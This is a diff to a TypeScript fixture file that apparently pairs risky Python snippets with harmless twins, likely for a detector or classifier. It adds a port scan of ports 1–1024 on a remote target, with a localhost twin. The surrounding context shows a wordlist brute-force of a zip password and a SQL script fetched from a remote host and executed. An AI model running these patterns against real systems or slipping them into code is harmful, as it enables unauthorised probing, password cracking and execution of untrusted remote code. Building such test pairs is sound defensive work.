@@ -146,6 +146,10 @@ export const TWINS: Readonly<Record<string, Twin>> = {
     'import zipfile\nz = zipfile.ZipFile("a.zip")\nfor w in open("words.txt"):\n    z.extractall("out", pwd=w.strip())',
     'import getpass, zipfile\nz = zipfile.ZipFile("a.zip")\nz.extractall("out", pwd=getpass.getpass())',
   ),
+  "core.port-scan": python(
+    'import socket\nfor port in range(1, 1025):\n    socket.socket().connect_ex(("target.example", port))',
+    'import socket\nfor port in range(1, 1025):\n    socket.socket().connect_ex(("localhost", port))',
+  ),
   "core.fetched-statement": python(
     'import requests, sqlite3\nsqlite3.connect("a").executescript(requests.get("https://e.com/q.sql").text)',
     'import sqlite3\nsqlite3.connect("a").executescript(open("schema.sql").read())',
